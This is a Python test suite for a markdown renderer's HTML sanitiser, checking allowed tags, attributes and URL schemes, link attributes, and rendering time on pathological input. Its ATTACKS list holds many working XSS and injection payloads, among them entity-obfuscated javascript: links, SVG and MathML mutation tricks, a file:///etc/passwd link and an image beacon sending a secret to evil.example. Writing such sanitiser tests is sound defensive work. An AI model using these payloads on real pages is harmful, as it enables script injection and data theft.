"""Whatever a model or a person writes: no tag, attribute or address outside the list."""

import random
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from ahfai import markdown

TAGS = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "span", "div", "table", "thead", "tbody", "tr", "th", "td", "math",
    "menclose", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom",
    "mprescripts", "mroot", "mrow", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup",
    "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
}  # fmt: skip
ATTRIBUTES = {
    "href", "target", "rel", "class", "start", "tabindex", "role", "aria-label", "data-language",
    "display", "notation", "linethickness", "displaystyle", "scriptlevel", "mathvariant", "form",
    "fence", "separator", "lspace", "rspace", "stretchy", "symmetric", "maxsize", "minsize",
    "largeop", "movablelimits", "accent", "accentunder", "width", "height", "depth", "voffset",
    "columnspan", "rowspan",
}  # fmt: skip
SCHEMES = {"http", "https", "mailto"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](https://good.example "onmouseover=alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onclick=alert(1)\nx\n```",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\class{evil}{\\style{color:red}{x}}$$",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <b onclick=alert(1)>x</b> |",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "https://evil.example/'onmouseover='alert(1)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "\u0000<scr\u0000ipt>alert(1)</script>",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](https:javascript:alert(1))",
    "[a](https://x\\@evil.example/)",
    "[a](http://[::1)",
    "[a](blob:https://x/y)",
    "[a](intent://x#Intent;end)",
    "[a](\\\\evil.example\\x)",
    "[a](/\\evil.example)",
    "[a](https://\tevil.example)",
    "[a](mailto:a@b.example?body=<script>)",
    "[a](mailto:javascript:alert(1))",
    "[a][b][c]\n\n[b]: <javascript:alert(1)> 'x\" onclick=\"y'\n[c]: data:,x",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror="alert(1)](https://x.example)',
    "![<script>](https://x.example/<script>)",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "<data:text/html,x> <vbscript:x> <ftp://x.example> <a@b.example>",
    "JAVASCRIPT://x.example/%0aalert(1) ftp://x.example //x.example www.x.example",
    "https://x.example/</a><script>alert(1)</script>",
    "https://x.example/`<img src=x>`",
    "<a href='javascript:alert(1)'>x</a> <base href=//x.example>",
    "<style>@import '//x.example'</style><link rel=stylesheet href=//x.example>",
    "<meta http-equiv=refresh content=0><form action=//x.example><button formaction=x>",
    "<object data=x><embed src=x><video src=x onerror=y><details ontoggle=alert(1) open>",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>]]> <?php x ?> <!DOCTYPE x>",
    "<svg><a xlink:href=javascript:alert(1)><animate attributeName=href values=x>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math><noscript><p title='</noscript><img src=x>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```x"onmouseover="alert(1)\ny\n```',
    '```k" style="x\ny\n```',
    "```highlight host plain\ny\n```",
    "~~~<script>\nx\n~~~",
    "    </code><img src=x onerror=alert(1)>",
    "`</code><img src=x onerror=alert(1)>`",
    "```diff\n+<script>\n-<img src=x>\n```",
    "```php\n<?php echo '<script>'; ?><script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ $$</math><img src=x onerror=alert(1)>$$",
    "\\(\\text{</mtext></math><script>alert(1)</script>}\\)",
    '$\\mbox{<b onclick=x>}$ $\\url{javascript:x}$ $\\ref{x}$ $\\eqref{" onclick="x}$',
    '$$\\begin{align}a\\label{x" onclick="y}\\tag{<img src=x>}\\end{align}$$',
    "$\\text{\\textbf{a}\\textit{b}\\texttt{c}\\textsc{d}\\emph{e}\\underline{f}}$",
    '$\\color{red" onclick="x}x$ $\\textcolor{url(//x.example)}{x}$ $\\unknown<script>$',
    "$\\htmlId{x}{y}\\htmlData{a=b}{c}\\includegraphics{x}$",
    '|a" onclick="x|\n|:-:|\n|<td onclick=x>|',
    '1000000000000. x\n\n01" onclick="x. y',
    "- [x]<script>\n- [ ] <b onclick=x>\n- [X] [y](javascript:z)",
    "> <iframe src=//x.example>\n\n# <h1 onclick=x>\n\n***<u>***",
    "\ud800<script>\udfff",
]
CONTAINERS = [
    "{}",
    "> {}",
    "- {}",
    "1. - [ ] {}",
    "# {}",
    "**{}**",
    "|{}|\n|-|",
    "[{}](https://a.example)",
]


class Found(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Found(html).tags:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES, html
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in SCHEMES, html
            assert attributes["target"] == "_blank", html
            assert attributes["rel"] == "noopener noreferrer nofollow", html
        else:
            assert "href" not in attributes, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_harmless_tags_and_addresses(attack):
    for container in CONTAINERS:
        text = container.format(attack)
        for html in (markdown.render(text), markdown.render_block(text)):
            assert_harmless(html)


@pytest.mark.parametrize("texts", [300, pytest.param(15_000, marks=pytest.mark.prove)])
def test_attacks_run_into_each_other_stay_harmless(texts):
    chance = random.Random(3)
    for _ in range(texts):
        pieces = [piece for attack in chance.sample(ATTACKS, 3) for piece in halves(attack, chance)]
        chance.shuffle(pieces)
        assert_harmless(markdown.render(chance.choice(["", "\n", " "]).join(pieces)))


def halves(text: str, chance: random.Random) -> tuple[str, str]:
    cut = chance.randint(0, len(text))
    return text[:cut], text[cut:]


def test_a_link_shows_its_host_and_gives_nothing_away():
    html = markdown.render("[my bank](https://evil.example/login)")
    (link,) = [attributes for tag, attributes in Found(html).tags if tag == "a"]
    assert "evil.example" in html.split("</a>")[0].split(">", 2)[-1] + html.split("</a>")[1]
    assert set(link["rel"].split()) >= {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "unit",
    ["*a ", "[", "> ", "- ", "`", "$", "<a ", "![", "**_", "://", "https://a.b/(", "https://a.b",
     "[a](", "$\n", "* a\n", "~~", "~~*", "\\(", "[x@y.z](", "a|b\n", "<![CDATA[", "\r\n"],
)  # fmt: skip
def test_a_bomb_of_marks_is_rendered_and_cut_in_time(unit):
    bomb = (unit * 65_536)[:65_536]
    began = time.process_time()
    markdown.render(bomb)
    markdown.closed_blocks(bomb)
    assert time.process_time() - began < 4


@pytest.mark.parametrize("language", ["c", "java", "make", "diff", "perl", "html"])
def test_hostile_code_is_coloured_in_time_or_not_at_all(language):
    code = (
        f"```{language}\n"
        + "/\\\n" * 4000
        + "```\n"
        + f"```{language}\n"
        + " (/* " * 3000
        + "\n```"
    )
    began = time.process_time()
    assert "/*" in markdown.render(code)
    assert time.process_time() - began < 4


def test_a_text_beyond_the_limit_is_shown_as_it_was_typed():
    html = markdown.render("<b>" + "x" * 70_000)
    assert "&lt;b&gt;" in html
    assert [tag for tag, _ in Found(html).tags] == ["pre"]
